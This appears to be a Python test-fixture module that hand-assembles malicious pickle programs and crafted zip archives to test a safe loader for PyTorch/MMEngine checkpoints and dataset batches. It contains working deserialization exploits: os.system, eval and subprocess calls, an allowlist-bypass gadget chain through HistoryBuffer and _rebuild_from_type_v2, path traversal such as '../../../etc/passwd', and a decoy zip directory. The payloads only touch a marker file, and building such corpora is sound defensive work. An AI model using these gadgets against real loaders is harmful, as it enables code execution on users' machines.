"""Crafted files, one per way of attacking a pickle reader.

Each entry is a pickle program written opcode by opcode (not by pickling
objects), so the files say exactly what an attacker would write, including
what Python's pickler never produces. Checkpoint entries are spliced into a
real checkpoint (:func:`real_checkpoint`) under an extra key, where nothing
would show if they loaded; data entries are whole data-set pickles.

Every payload that could run creates ``marker``.
"""
import io
import os.path as osp
import pickle
import struct
import zipfile
from collections import Counter, OrderedDict

import numpy as np
import torch
from mmengine.logging import HistoryBuffer

HB = ('mmengine.logging.history_buffer', 'HistoryBuffer')


# -- a small pickle assembler ------------------------------------------------
def glob(module, name):
    return b'c' + f'{module}\n{name}\n'.encode()


def stack_glob(module, name):
    return text(module) + text(name) + pickle.STACK_GLOBAL


def text(value):
    data = value.encode('utf-8', 'surrogatepass')
    return pickle.BINUNICODE + struct.pack('<I', len(data)) + data


def raw(value):
    return pickle.BINBYTES + struct.pack('<I', len(value)) + value


def integer(value):
    if -2**31 <= value < 2**31:
        return pickle.BININT + struct.pack('<i', value)
    data = value.to_bytes((value.bit_length() + 8) // 8, 'little',
                          signed=True)
    if len(data) < 256:
        return pickle.LONG1 + bytes([len(data)]) + data
    return pickle.LONG4 + struct.pack('<i', len(data)) + data


NONE, TRUE, FALSE = pickle.NONE, pickle.NEWTRUE, pickle.NEWFALSE


def tup(*items):
    return pickle.MARK + b''.join(items) + pickle.TUPLE


def lst(*items):
    return pickle.EMPTY_LIST + (pickle.MARK + b''.join(items) +
                                pickle.APPENDS if items else b'')


def dct(*pairs):
    body = b''.join(k + v for k, v in pairs)
    return pickle.EMPTY_DICT + (pickle.MARK + body +
                                pickle.SETITEMS if pairs else b'')


def call(func, *args):
    return func + tup(*args) + pickle.REDUCE


def newobj(cls):
    return cls + pickle.EMPTY_TUPLE + pickle.NEWOBJ


def build(obj, state):
    return obj + state + pickle.BUILD


def put(index):
    return pickle.LONG_BINPUT + struct.pack('<I', index)


def get(index):
    return pickle.LONG_BINGET + struct.pack('<I', index)


def program(body):
    return pickle.PROTO + b'\x02' + body + pickle.STOP


# -- pieces ------------------------------------------------------------------
def _dtype(descr, state=None):
    dtype = call(glob('numpy', 'dtype'), text(descr), FALSE, TRUE)
    state = state or tup(integer(3), text('<'), NONE, NONE, NONE,
                         integer(-1), integer(-1), integer(0))
    return build(dtype, state)


def _array(descr, shape, data):
    array = call(
        glob('numpy._core.multiarray', '_reconstruct'),
        glob('numpy', 'ndarray'), tup(integer(0)), raw(b'b'))
    return build(
        array,
        tup(integer(1), tup(*map(integer, shape)), _dtype(descr), FALSE,
            data))


def _storage(key='0', numel=4, kind='FloatStorage', location='cpu'):
    return tup(text('storage'), glob('torch', kind), text(key),
               text(location), integer(numel)) + pickle.BINPERSID


def _tensor(storage=None, offset=0, size=(2, ), stride=(1, ),
            hooks=None):
    return call(
        glob('torch._utils', '_rebuild_tensor_v2'), storage or _storage(),
        integer(offset), tup(*map(integer, size)),
        tup(*map(integer, stride)), FALSE,
        hooks or call(glob('collections', 'OrderedDict')))


def _history_buffer(statistics):
    log = _array('f8', (1, ), raw(struct.pack('<d', 1.0)))
    count = _array('i8', (1, ), raw(struct.pack('<q', 1)))
    return build(
        newobj(glob(*HB)),
        dct((text('max_length'), integer(10)),
            (text('_log_history'), log), (text('_count_history'), count),
            (text('statistics_methods'), statistics)))


def _statistic(name):
    return call(glob('builtins', 'getattr'), glob(*HB), text(name))


def payload(marker):
    """Python that creates ``marker``, for the functions that run text."""
    return f"open({str(marker)!r}, 'w').close()"


# -- the corpus --------------------------------------------------------------
def pickle_attacks(marker):
    """``{class: {name: pickle body}}``: bodies leave one object on the stack.

    The classes: names outside the table, allowed names reached through
    state poisoning (the HistoryBuffer chain), torch's rebuild functions
    given a foreign callable, NumPy dtypes and arrays, containers that are
    not containers, opcodes that call.
    """
    marker = str(marker)
    code = payload(marker)
    attacks = {}
    attacks['outside the table'] = {
        'os.system': call(glob('os', 'system'), text(f'touch {marker}')),
        'posix.system': call(glob('posix', 'system'),
                             text(f'touch {marker}')),
        'builtins.eval': call(glob('builtins', 'eval'), text(code)),
        'builtins.exec (py2 name)': call(glob('__builtin__', 'exec'),
                                         text(code)),
        'io.open': call(glob('io', 'open'), text(marker), text('w')),
        'io.open (STACK_GLOBAL)': call(stack_glob('io', 'open'),
                                       text(marker), text('w')),
        'torch.load': call(glob('torch', 'load'), text(marker)),
        'numpy.load': call(glob('numpy', 'load'), text(marker)),
        'subprocess.Popen': call(glob('subprocess', 'Popen'),
                                 lst(text('touch'), text(marker))),
        'copyreg._reconstructor': call(
            glob('copyreg', '_reconstructor'), glob('io', 'FileIO'),
            glob('builtins', 'object'), NONE),
        'functools.partial': call(glob('functools', 'partial'),
                                  glob('builtins', 'eval'), text(code)),
        'getattr(os, system)': call(glob('builtins', 'getattr'),
                                    glob('os', 'path'), text('join')),
        'torch.Tensor.__setstate__ via getattr': call(
            glob('builtins', 'getattr'), glob('torch', 'Tensor'),
            text('__setstate__')),
    }
    attacks['state poisoning'] = {
        'HistoryBuffer statistics named __getattribute__': _history_buffer(
            dct((text('__getattribute__'), _statistic('mean')))),
        'HistoryBuffer statistics given a string': _history_buffer(
            dct((text('mean'), text('mean')))),
        'HistoryBuffer statistics given a global': _history_buffer(
            dct((text('mean'), glob('builtins', 'eval')))),
        'HistoryBuffer state with a class attribute': build(
            newobj(glob(*HB)),
            dct((text('_statistics_methods'), dct()),
                (text('_log_history'), _array('f8', (0, ), raw(b''))),
                (text('_count_history'), _array('f8', (0, ), raw(b''))))),
        'HistoryBuffer without its state': newobj(glob(*HB)),
        'HistoryBuffer with arguments': glob(*HB) + tup(text('x')) +
        pickle.NEWOBJ,
        "state dict _metadata that makes load_state_dict assign the file's "
        'tensors': build(
            call(glob('collections', 'OrderedDict')),
            dct((text('_metadata'),
                 dct((text(''),
                      dct((text('assign_to_params_buffers'), TRUE))))))),
        'getattr HistoryBuffer.__init__': _statistic('__init__'),
        'getattr HistoryBuffer.__getattribute__': _statistic(
            '__getattribute__'),
        'getattr HistoryBuffer.__class__': _statistic('__class__'),
        'getattr HistoryBuffer.mean.__globals__': _statistic(
            'mean.__globals__'),
        'getattr of a non-string': call(
            glob('builtins', 'getattr'), glob(*HB), integer(1)),
        # The chain that ran code through an allowlist of names: poison the
        # class-level statistics dict, take object.__getattribute__ and
        # type through the getattr stand-in, then have
        # _rebuild_from_type_v2 call what they give.
        'the HistoryBuffer-getattr-_rebuild_from_type_v2 chain':
        _history_buffer(
            dct((text('__getattribute__'), _statistic('mean')),
                (text('__init__'), _statistic('mean')),
                (text('__class__'), _statistic('mean')))) + pickle.POP +
        call(
            glob('torch._tensor', '_rebuild_from_type_v2'),
            call(
                call(glob('builtins', 'getattr'), glob(*HB),
                     text('__getattribute__')), glob(*HB),
                text('__init__')), glob('torch', 'Tensor'),
            tup(text('__builtins__')), dct()),
    }
    attacks['torch rebuild with a foreign callable'] = {
        '_rebuild_from_type_v2(getattr, ...)': call(
            glob('torch._tensor', '_rebuild_from_type_v2'),
            glob('builtins', 'getattr'), glob('torch', 'Tensor'),
            tup(glob(*HB), text('mean')), dct()),
        '_rebuild_from_type_v2(eval, ...)': call(
            glob('torch._tensor', '_rebuild_from_type_v2'),
            glob('builtins', 'eval'), glob('torch', 'Tensor'),
            tup(text(code)), dct()),
        '_rebuild_from_type_v2(OrderedDict, ...)': call(
            glob('torch._tensor', '_rebuild_from_type_v2'),
            glob('collections', 'OrderedDict'), glob('torch', 'Tensor'),
            tup(), dct()),
        '_rebuild_from_type_v2 into HistoryBuffer': call(
            glob('torch._tensor', '_rebuild_from_type_v2'),
            glob('torch._utils', '_rebuild_tensor_v2'), glob(*HB),
            tup(_storage(), integer(0), tup(integer(2)), tup(integer(1)),
                FALSE, call(glob('collections', 'OrderedDict'))), dct()),
        '_rebuild_from_type_v2 with a state': call(
            glob('torch._tensor', '_rebuild_from_type_v2'),
            glob('torch._utils', '_rebuild_tensor_v2'),
            glob('torch', 'Tensor'),
            tup(_storage(), integer(0), tup(integer(2)), tup(integer(1)),
                FALSE, call(glob('collections', 'OrderedDict'))),
            dct((text('__class__'), glob(*HB)))),
        'tensor with a backward hook': _tensor(
            hooks=dct((integer(0), glob('builtins', 'getattr')))),
        'parameter with a backward hook': call(
            glob('torch._utils', '_rebuild_parameter'), _tensor(), TRUE,
            dct((integer(0), glob('collections', 'OrderedDict')))),
        'tensor beyond its storage': _tensor(size=(10**6, )),
        'tensor at an offset beyond its storage': _tensor(offset=10**9),
        'tensor with a negative size': _tensor(size=(-1, )),
        'tensor over a huge repeated view': _tensor(size=(10**6, 10**6),
                                                     stride=(0, 0)),
        'tensor over something else': call(
            glob('torch._utils', '_rebuild_tensor_v2'), text('storage'),
            integer(0), tup(integer(1)), tup(integer(1)), FALSE,
            call(glob('collections', 'OrderedDict'))),
        'storage key outside the archive': _tensor(
            storage=_storage(key='../../../etc/passwd')),
        'storage of a foreign type': tup(text('storage'), glob(*HB),
                                         text('0'), text('cpu'),
                                         integer(4)) + pickle.BINPERSID,
        'storage larger than its record': _tensor(
            storage=_storage(key='999', numel=10**9)),
        'tensor of a complex dtype (NaN not seen by the checks)': _tensor(
            storage=_storage(key='999', numel=1, kind='ComplexDoubleStorage'),
            size=(1, )),
        'tensor of a quantized dtype': _tensor(
            storage=_storage(key='999', numel=16, kind='QUInt8Storage')),
        'tensor size of huge ints (CPU before any check)': _tensor(
            size=(2**4000, ) * 64, stride=(1, ) * 64),
        'persistent id that is no storage': tup(text('module'),
                                                glob('os', 'system')) +
        pickle.BINPERSID,
    }
    attacks['numpy'] = {
        'object dtype': _dtype('O'),
        'object dtype (py2 name O8)': _dtype('O8'),
        'void dtype': _dtype('V8'),
        'unicode dtype': _dtype('U4'),
        'dtype with object fields (the crash gadget)': _dtype(
            'f8',
            tup(integer(3), text('|'), NONE, tup(text('a')),
                dct((text('a'), tup(_dtype('O'), integer(0)))), integer(8),
                integer(1), integer(0x3f))),
        'dtype with numeric fields': _dtype(
            'f8',
            tup(integer(3), text('|'), NONE, tup(text('a')),
                dct((text('a'), tup(_dtype('f8'), integer(0)))),
                integer(8), integer(1), integer(0))),
        'dtype with a sub-array': _dtype(
            'f8',
            tup(integer(3), text('<'), tup(_dtype('O'), tup(integer(2))),
                NONE, NONE, integer(-1), integer(-1), integer(0))),
        'dtype with metadata': _dtype(
            'f8',
            tup(integer(4), text('<'), NONE, NONE, NONE, integer(-1),
                integer(-1), integer(0), dct((text('x'), integer(1))))),
        'array of a foreign class': build(
            call(glob('numpy._core.multiarray', '_reconstruct'),
                 glob(*HB), tup(integer(0)), raw(b'b')), dct()),
        'array of Python objects': _array('f8', (1, ), lst(text('x'))),
        'array shorter than its shape': _array('f8', (10**9, ),
                                               raw(b'\0' * 8)),
        'array with a negative shape': _array('f8', (-1, ), raw(b'')),
        'array shape of huge ints (CPU before any check)': _array(
            'f8', (2**4000, ) * 64, raw(b'')),
        'array whose dtype is a string': build(
            call(glob('numpy._core.multiarray', '_reconstruct'),
                 glob('numpy', 'ndarray'), tup(integer(0)), raw(b'b')),
            tup(integer(1), tup(integer(1)), text('O'), FALSE,
                raw(b'\0' * 8))),
        'scalar of object dtype': call(
            glob('numpy._core.multiarray', 'scalar'), _dtype('O'),
            glob('builtins', 'eval')),
        'scalar with a short buffer': call(
            glob('numpy._core.multiarray', 'scalar'), _dtype('f8'),
            raw(b'\0')),
        '_frombuffer with a foreign order': call(
            glob('numpy._core.numeric', '_frombuffer'), raw(b'\0' * 8),
            _dtype('f8'), tup(integer(1)), text('K')),
        '_codecs.encode to another codec': call(
            glob('_codecs', 'encode'), text('x'), text('rot13')),
    }
    attacks['containers and opcodes'] = {
        'APPEND into a dtype': glob('torch', 'float32') + text('x') +
        pickle.APPEND,
        'SETITEM into a builder': glob('collections', 'OrderedDict') +
        text('x') + text('y') + pickle.SETITEM,
        'SETITEMS into a tensor': _tensor() + pickle.MARK + integer(0) +
        integer(1) + pickle.SETITEMS,
        'BUILD on a dict': build(dct(), dct((text('__class__'), NONE))),
        'BUILD on a tensor (legacy set_)': build(
            _tensor(),
            tup(_storage(), integer(0), tup(integer(10**6)),
                tup(integer(1)))),
        'BUILD on an OrderedDict attribute': build(
            call(glob('collections', 'OrderedDict')),
            dct((text('keys'), glob('collections', 'OrderedDict')))),
        'BUILD on a dtype': build(glob('torch', 'float32'), dct()),
        'INST opcode': pickle.MARK + text(marker) + text('w') + b'i' +
        b'io\nopen\n',
        'OBJ opcode': pickle.MARK + glob('collections', 'OrderedDict') +
        pickle.OBJ,
        'NEWOBJ of a real class': newobj(glob('collections', 'OrderedDict')),
        'NEWOBJ_EX': glob(*HB) + tup() + dct() + pickle.NEWOBJ_EX,
        'EXT1 (extension registry)': pickle.EXT1 + b'\x01',
        'NEXT_BUFFER': pickle.NEXT_BUFFER,
        'unknown opcode': b'\xff',
        'REDUCE with a list of arguments': glob('collections', 'Counter') +
        lst() + pickle.REDUCE,
        'REDUCE of a built object': call(call(glob('collections',
                                                   'OrderedDict'))),
        'Counter with counts that are not ints': call(
            glob('collections', 'Counter'), dct((text('a'), text('b')))),
        'memo key of a missing object': get(123456),
        'dict keys chosen to collide': dct(*[(integer(k * (2**61 - 1)),
                                              NONE) for k in range(1, 4)]),
        'dict keys that are floats': dct((pickle.BINFLOAT +
                                          struct.pack('>d', 0.5), NONE)),
        'set of colliding ints': glob('builtins', 'set') + tup(lst(*[
            integer(k * (2**61 - 1)) for k in range(1, 4)])) + pickle.REDUCE,
        'DICT opcode with colliding keys': pickle.MARK + b''.join(
            integer(k * (2**61 - 1)) + NONE for k in range(1, 4)) +
        pickle.DICT,
    }
    return attacks


def all_attacks(marker):
    """``(class, name, body)`` of every pickle attack, in a fixed order."""
    for kind, entries in pickle_attacks(marker).items():
        for name, body in entries.items():
            yield kind, name, body


def splice(real_pickle, body, key='extra'):
    """The real checkpoint's pickle with ``body`` stored under ``key`` of
    its top-level dict (its objects are kept; nothing else changes)."""
    assert real_pickle.endswith(pickle.STOP)
    return real_pickle[:-1] + text(key) + body + pickle.SETITEM + \
        pickle.STOP


def real_checkpoint():
    """What MMEngine's Runner saves, MMEngine's way: weights with metadata,
    an SGD state, a step scheduler's ``Counter``, the message hub's
    ``HistoryBuffer`` and NumPy scalars. Returns the object."""
    model = torch.nn.Sequential(torch.nn.Conv2d(3, 4, 3),
                                torch.nn.BatchNorm2d(4))
    optimizer = torch.optim.SGD(model.parameters(), lr=0.1, momentum=0.9)
    model(torch.randn(2, 3, 5, 5)).sum().backward()
    optimizer.step()
    return dict(
        meta=dict(epoch=1, iter=4, seed=0, hash='abc',
                  dataset_meta=dict(classes=('a', 'b'))),
        state_dict=model.state_dict(),
        message_hub=dict(
            log_scalars=OrderedDict({
                'train/loss': HistoryBuffer([1.5, 1.0], [1, 1]),
                'train/lr': HistoryBuffer([0.1], [1])
            }),
            runtime_info=OrderedDict(
                epoch=1, iter=4, best_score=np.float64(0.5),
                keep_ckpt_ids=[1]),
            resumed_keys=OrderedDict(epoch=True)),
        optimizer=optimizer.state_dict(),
        param_schedulers=[
            dict(milestones=Counter({3: 1, 6: 1}), gamma=0.1,
                 base_values=[0.1], last_step=1)
        ])


def write_archive(path, members, folder='archive'):
    """A zip archive as torch.save writes it, members stored."""
    with zipfile.ZipFile(path, 'w', zipfile.ZIP_STORED) as archive:
        for name, data in members.items():
            archive.writestr(f'{folder}/{name}' if folder else name, data)
    return str(path)


def archive_members(path):
    """``{name below the archive folder: bytes}`` of a torch checkpoint."""
    with zipfile.ZipFile(path) as archive:
        return {
            name.split('/', 1)[1]: archive.read(name)
            for name in archive.namelist()
        }


def checkpoint_files(folder, marker):
    """Write the checkpoint corpus into ``folder``.

    Returns:
        dict: ``{(class, name): path}``: each pickle attack spliced into a
        real checkpoint, plus the archive-level attacks (member names,
        TorchScript, truncation) of their own class.
    """
    real_path = osp.join(folder, 'real.pth')
    torch.save(real_checkpoint(), real_path)
    members = archive_members(real_path)
    real_pickle = members['data.pkl']
    files = {}
    for number, (kind, name, body) in enumerate(all_attacks(marker)):
        path = osp.join(folder, f'pickle_{number}.pth')
        # data/999: a record of 16 bytes that no real tensor uses
        write_archive(path, {**members, 'data/999': b'\0' * 16,
                             'data.pkl': splice(real_pickle, body)})
        files[(kind, name)] = path

    def archive(name, data_members, folder_name='archive'):
        path = osp.join(folder, f'archive_{len(files)}.pth')
        files[('archive', name)] = write_archive(path, data_members,
                                                 folder_name)

    archive('member name with ..', {**members, '../../escaped': b'x'})
    archive('absolute member name', {'data.pkl': real_pickle,
                                     '/tmp/absolute': b'x'}, folder_name='')
    archive('two top-level folders', {
        **{f'archive/{name}': data for name, data in members.items()},
        'other/x': b'x'
    }, folder_name='')
    archive('member name with a backslash', {**members,
                                             'data\\..\\x': b'x'})
    archive('TorchScript archive (code)', {**members,
                                           'constants.pkl': real_pickle,
                                           'code/__torch__.py': b'x'})
    archive('no data.pkl', {'version': b'3'})
    archive('no members', {})
    data = open(real_path, 'rb').read()
    for fraction in (0.1, 0.5, 0.9, 0.99):
        path = osp.join(folder, f'truncated_{fraction}.pth')
        with open(path, 'wb') as f:
            f.write(data[:int(len(data) * fraction)])
        files[('truncation', f'file cut at {fraction:.0%}')] = path
    archive('data.pkl cut in half', {
        **members, 'data.pkl': real_pickle[:len(real_pickle) // 2]
    })
    path = osp.join(folder, 'empty.pth')
    open(path, 'wb').close()
    files[('truncation', 'empty file')] = path
    path = osp.join(folder, 'legacy.pth')
    buffer = io.BytesIO()
    torch.save(dict(a=1), buffer, _use_new_zipfile_serialization=False)
    with open(path, 'wb') as f:
        f.write(buffer.getvalue())
    files[('truncation', 'legacy (non-zip) format')] = path
    return files


def data_files(folder, marker):
    """Write the data-set pickle corpus into ``folder``: each attack as the
    value of ``b'data'`` in an otherwise ordinary CIFAR batch, plus
    truncations. Returns ``{(class, name): path}``."""
    files = {}
    for number, (kind, name, body) in enumerate(all_attacks(marker)):
        path = osp.join(folder, f'batch_{number}')
        with open(path, 'wb') as f:
            f.write(program(
                dct((text('labels'), lst(integer(0))), (text('data'),
                                                        body))))
        files[(kind, name)] = path
    good = pickle.dumps(
        dict(data=np.zeros((2, 3072), np.uint8), labels=[0, 1]), 2)
    for fraction in (0.1, 0.5, 0.9):
        path = osp.join(folder, f'truncated_{fraction}')
        with open(path, 'wb') as f:
            f.write(good[:int(len(good) * fraction)])
        files[('truncation', f'cut at {fraction:.0%}')] = path
    return files


def central_entry(name, comment=b''):
    """A zip central-directory entry for ``name`` (offsets zero)."""
    name = name.encode()
    return struct.pack('<IHHHHHHIIIHHHHHII', 0x02014b50, 20, 20, 0, 0, 0, 0,
                       0, 0, 0, len(name), 0, len(comment), 0, 0, 0,
                       0) + name + comment


def two_directory_archive(archive_bytes, path):
    """``archive_bytes`` (a zip) with a second, decoy central directory
    (members ``data.pkl`` and ``version`` only) just before a new end
    record that still points at the first one: Python's zipfile reads the
    decoy (found before the end record), torch's reader the original (at
    the offset the end record states)."""
    end = archive_bytes.rfind(b'PK\x05\x06')
    _, _, _, _, entries, size, offset, _ = struct.unpack(
        '<IHHHHIIH', archive_bytes[end:end + 22])
    with zipfile.ZipFile(io.BytesIO(archive_bytes)) as archive:
        folder = archive.namelist()[0].split('/')[0]
    pad = size + 1 - len(
        central_entry(f'{folder}/data.pkl') +
        central_entry(f'{folder}/version'))
    decoy = central_entry(f'{folder}/data.pkl') + central_entry(
        f'{folder}/version', b' ' * max(pad, 0))
    with open(path, 'wb') as f:
        f.write(archive_bytes[:offset + size] + decoy + struct.pack(
            '<IHHHHIIH', 0x06054b50, 0, 0, entries, entries, len(decoy),
            offset, 0))
    return str(path)
